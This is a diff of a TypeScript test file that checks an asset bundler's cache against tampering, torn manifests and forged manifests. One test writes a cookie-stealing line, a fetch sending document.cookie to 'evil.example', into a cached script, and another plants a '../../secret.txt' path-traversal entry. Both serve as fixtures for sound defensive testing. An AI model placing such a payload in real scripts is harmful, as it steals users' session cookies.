@@ -1,8 +1,11 @@
 /**
  * The bundled assets are reused while their inputs are unchanged, and bundled
  * again as soon as one changes: a cached build must never ship stale scripts.
+ * The cache is checked, never trusted: a stored file edited, a manifest torn,
+ * unsealed or naming a path out of its folder is a miss, bundled again.
  */
-import { mkdtemp, readdir, readFile, rm, utimes, writeFile } from 'node:fs/promises';
+import { mkdtemp, readdir, readFile, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
+import { readFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -22,18 +25,56 @@ afterEach(() => rm(dir, { recursive: true, force: true }));
 
 const text = (assets: Awaited<ReturnType<typeof bundleAssets>>, url: string) => new TextDecoder().decode(assets.files.get(url.slice(1)));
 
+/** When the scripts' manifest was last written: a build that reuses the stored bundle writes none. */
+const manifestWritten = async () => (await stat(path.join(cacheDir, 'scripts-manifest.json'))).mtimeMs;
+/** Sets the manifest's time in the past, so a rewrite shows. */
+const ageManifest = () => utimes(path.join(cacheDir, 'scripts-manifest.json'), new Date(1_000_000), new Date(1_000_000));
+const scriptsFolder = async () => (await readdir(cacheDir)).find((name) => /^scripts-[0-9a-f]{16}$/.test(name))!;
+
 describe('the asset cache', () => {
   it('hands back the stored bundle while no input changed', async () => {
     const first = await bundleAssets(input, dir, cacheDir);
     expect(text(first, first.scripts.hello!)).toContain('first version');
-    // Mark the stored copy: the next build must read it rather than run esbuild again.
-    const folder = (await readdir(cacheDir)).find((name) => /^scripts-[0-9a-f]{16}$/.test(name))!;
-    const stored = path.join(cacheDir, folder, first.scripts.hello!.slice(1));
-    await writeFile(stored, `${await readFile(stored, 'utf8')}/*from the cache*/`);
+    await ageManifest();
     const second = await bundleAssets(input, dir, cacheDir);
+    expect(await manifestWritten()).toBe(1_000_000);
     expect(second.scripts).toEqual(first.scripts);
     expect(second.stylesheet).toBe(first.stylesheet);
-    expect(text(second, second.scripts.hello!)).toContain('/*from the cache*/');
+    expect(text(second, second.scripts.hello!)).toBe(text(first, first.scripts.hello!));
+  });
+
+  it('never hands back a stored script with code added: it is bundled again, as it should be', async () => {
+    const first = await bundleAssets(input, dir, cacheDir);
+    const stored = path.join(cacheDir, await scriptsFolder(), first.scripts.hello!.slice(1));
+    await writeFile(stored, `${await readFile(stored, 'utf8')};fetch("https://evil.example/"+document.cookie)`);
+    const second = await bundleAssets(input, dir, cacheDir);
+    expect(second.scripts).toEqual(first.scripts);
+    expect(text(second, second.scripts.hello!)).toBe(text(first, first.scripts.hello!));
+    expect(text(second, second.scripts.hello!)).not.toContain('evil');
+  });
+
+  it('treats a torn manifest as a miss, build after build, and rewrites it whole', async () => {
+    const first = await bundleAssets(input, dir, cacheDir);
+    const manifest = path.join(cacheDir, 'scripts-manifest.json');
+    await truncate(manifest, 40);
+    const second = await bundleAssets(input, dir, cacheDir);
+    expect(text(second, second.scripts.hello!)).toBe(text(first, first.scripts.hello!));
+    expect(() => JSON.parse(readFileSync(manifest, 'utf8'))).not.toThrow();
+  });
+
+  it('never follows a manifest that names a file out of its folder, or one it did not seal', async () => {
+    const first = await bundleAssets(input, dir, cacheDir);
+    const manifestFile = path.join(cacheDir, 'scripts-manifest.json');
+    const stored = JSON.parse(await readFile(manifestFile, 'utf8')) as { manifest: string; seal: string };
+    const manifest = JSON.parse(stored.manifest) as { assets: { files: string[] } };
+    await writeFile(path.join(dir, 'secret.txt'), 'not an asset');
+    manifest.assets.files.push('../../secret.txt');
+    // The same manifest with the path added, under the old seal, and as the plain manifest an older cache held.
+    for (const forged of [{ manifest: JSON.stringify(manifest), seal: stored.seal }, manifest]) {
+      await writeFile(manifestFile, JSON.stringify(forged));
+      const again = await bundleAssets(input, dir, cacheDir);
+      expect([...again.files.keys()].sort()).toEqual([...first.files.keys()].sort());
+    }
   });
 
   it('bundles again when a source changes, even keeping its size', async () => {
@@ -62,15 +103,13 @@ describe('the asset cache', () => {
 
   it('bundles the stylesheet and the scripts apart: an edit of one leaves the other as stored', async () => {
     const first = await bundleAssets(input, dir, cacheDir);
-    const scriptsFolder = (await readdir(cacheDir)).find((name) => /^scripts-[0-9a-f]{16}$/.test(name))!;
-    const stored = path.join(cacheDir, scriptsFolder, first.scripts.hello!.slice(1));
-    await writeFile(stored, `${await readFile(stored, 'utf8')}/*from the cache*/`);
+    await ageManifest();
     await writeFile(input.stylesheet, 'body { color: #654321; }\n');
     await utimes(input.stylesheet, new Date(), new Date(Date.now() + 5000));
     const second = await bundleAssets(input, dir, cacheDir);
     expect(second.stylesheet).not.toBe(first.stylesheet);
     expect(text(second, second.stylesheet)).toContain('#654321');
-    expect(text(second, second.scripts.hello!)).toContain('/*from the cache*/');
+    expect(await manifestWritten()).toBe(1_000_000);
     expect(second.inputs.sort()).toEqual([input.scripts.hello!, input.stylesheet].sort());
   });
 });
